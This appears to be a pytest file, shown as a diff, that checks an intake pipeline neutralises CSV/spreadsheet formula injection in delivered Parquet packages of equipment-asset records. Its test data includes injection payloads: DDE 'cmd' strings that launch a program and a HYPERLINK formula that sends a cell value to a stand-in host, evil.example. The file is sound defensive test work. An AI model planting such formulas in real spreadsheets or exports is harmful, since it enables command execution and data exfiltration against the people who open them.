@@ -1,0 +1,125 @@
+"""Spreadsheet formulas in delivered text are neutralised (OWASP CSV injection); ordinary values are not.
+
+The package test writes a real legacy CSV file, reads it through the connectors (or the stand-in reader when
+they are not installed), writes a real package and reads the delivered Parquet files back.
+"""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from intake.clock import FixedClock
+from intake.product import LocalFolderPackageWriter, builtin_mapping, verify_package, write_package
+from intake.product.neutralise import NeutraliseCounts, formula_mask, neutralise_array, neutralise_batch
+from tests.product.legacy import asset_row, read_equiptrack_assets_csv, write_equiptrack_assets_csv
+
+CLOCK = FixedClock(datetime(2026, 3, 2, 9, 30, tzinfo=UTC))
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "@SUM(A1)", "-2+3",
+    "=1+1", "\tSUM(1)", "\r=1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+A1", "-A1*2", "-2+A1", "=", "+Sheet1!A1", "-$B$2", "+ SUM(1)", "+1*2", "-IMPORTXML(CONCAT(A1),\"//a\")",
+]
+ORDINARY = [
+    "+44 1632 960123", "-20C freezer", "- see notes", "@home", "+ve", "-5", "+44-20-7946-0958",
+    "+44 (0)20 7946 0958", "-1E5", "-2.5", "+1", "@", "-", "+/-5", "- see (notes)", "-5 to -10", "a=b",
+    "+ A grade", "-A1 grade", "- ward 3-B2", "Infusion pump", "", "SUM(1,2)", "email@example.org",
+]
+
+
+def test_formulas_are_detected_and_ordinary_values_are_not() -> None:
+    values = pa.array([*FORMULAS, *ORDINARY, None], pa.string())
+    mask = formula_mask(values).to_pylist()
+    assert [v for v, hit in zip(values.to_pylist(), mask, strict=True) if hit] == FORMULAS
+
+
+@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()])
+def test_neutralising_prefixes_a_quote_and_counts(kind: pa.DataType) -> None:
+    safe, count = neutralise_array(pa.array([*FORMULAS, *ORDINARY, None], kind))
+    assert count == len(FORMULAS) and safe.type == kind
+    assert safe.to_pylist() == [*("'" + v for v in FORMULAS), *ORDINARY, None]
+    untouched = pa.array(ORDINARY, kind)
+    assert neutralise_array(untouched) == (untouched, 0)
+
+
+def test_only_string_columns_change_and_counts_name_fields_never_values() -> None:
+    batch = pa.RecordBatch.from_pydict({"n": pa.array([-2, 3]), "text": ["=1+1", "-5"], "other": ["+ve", "@A1"]})
+    counts = NeutraliseCounts()
+    safe = neutralise_batch(batch, "assets", counts)
+    assert safe.schema == batch.schema
+    assert safe.to_pydict() == {"n": [-2, 3], "text": ["'=1+1", "-5"], "other": ["+ve", "'@A1"]}
+    assert counts.as_dict() == {"rule": "owasp-csv-injection/1", "total": 2,
+                                "cells": {"assets": {"other": 1, "text": 1}}}
+
+
+def read_assets(csv_path: Path) -> object:
+    try:
+        import intake.connectors as connectors
+    except ImportError:
+        return lambda: read_equiptrack_assets_csv(csv_path)
+    return connectors.open_source(None, csv_path)
+
+
+def test_a_delivered_package_holds_no_executable_text(tmp_path: Path) -> None:
+    rows = [
+        asset_row("EQ000001", Notes="=cmd|' /C calc'!A0", Serial_No="+SUM(1,2)", Contact_Tel="+44 1632 960123"),
+        asset_row("EQ000002", Notes='=HYPERLINK("http://evil.example","x")', Serial_No="-20C freezer",
+                  Description="@SUM(A1)", Model="Perfusor Space", Contact_Tel="-2+3"),
+        asset_row("EQ000003", Notes="- see notes", Serial_No="-5", Description="+ve", Model="IntelliVue MX450",
+                  Manufacturer="Philips", Responsible_Engineer="@home"),
+        asset_row("EQ000004", Notes="\t=1+1", Serial_No="=1+1", Supplier="+cmd|' /C calc'!A0"),
+    ]
+    csv_path = write_equiptrack_assets_csv(tmp_path / "assets.csv", rows)
+    target = tmp_path / "package"
+    source = read_assets(csv_path)
+    if callable(source):
+        sources = {"assets": source, "jobs": []}
+        result = write_package(sources, builtin_mapping("equiptrack"), LocalFolderPackageWriter(target),
+                               dataset_id="DS-1", authorisation_reference="AUTH-1", clock=CLOCK)
+    else:
+        with source as opened:
+            sources = {"assets": opened.read(opened.tables()[0]), "jobs": []}
+            result = write_package(sources, builtin_mapping("equiptrack"), LocalFolderPackageWriter(target),
+                                   dataset_id="DS-1", authorisation_reference="AUTH-1", clock=CLOCK)
+
+    assets = pq.read_table(target / "assets.parquet").to_pylist()
+    by_number = {row["asset_number"]: row for row in assets}
+    assert len(by_number) == 4
+    assert by_number["EQ000001"]["notes"] == "'=cmd|' /C calc'!A0"
+    assert by_number["EQ000001"]["serial_number"] == "'+SUM(1,2)"
+    assert by_number["EQ000001"]["contact_phone"] == "+44 1632 960123"
+    assert by_number["EQ000002"]["notes"] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
+    assert by_number["EQ000002"]["serial_number"] == "-20C freezer"
+    assert by_number["EQ000002"]["contact_phone"] == "'-2+3"
+    assert by_number["EQ000003"]["notes"] == "- see notes"
+    assert by_number["EQ000003"]["serial_number"] == "-5"
+    assert by_number["EQ000003"]["responsible_engineer"] == "@home"
+    assert by_number["EQ000004"]["serial_number"] == "'=1+1"
+    models = {row["device_type"] for row in pq.read_table(target / "device_models.parquet").to_pylist()}
+    assert "'@SUM(A1)" in models and "+ve" in models
+    suppliers = {row["name"] for row in pq.read_table(target / "suppliers.parquet").to_pylist()}
+    assert "'+cmd|' /C calc'!A0" in suppliers
+
+    # No delivered string cell anywhere still starts a formula.
+    for parquet in target.glob("*.parquet"):
+        table = pq.read_table(parquet)
+        for name in table.column_names:
+            column = table.column(name)
+            if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
+                assert not any(formula_mask(column).to_pylist()), f"{parquet.name}:{name}"
+
+    counts = result.manifest["neutralised_formulas"]
+    assert counts["rule"] == "owasp-csv-injection/1"
+    assert counts["cells"]["assets"] == {"contact_phone": 1, "notes": 3, "serial_number": 2}
+    assert counts["cells"]["device_models"] == {"device_type": 1}
+    assert counts["cells"]["suppliers"] == {"name": 1}
+    manifest_text = (target / "manifest.json").read_text()
+    assert json.loads(manifest_text) == result.manifest == verify_package(target)
+    for value in ("cmd|", "HYPERLINK", "SUM(", "-2+3"):
+        assert value not in manifest_text  # counts only, never a value
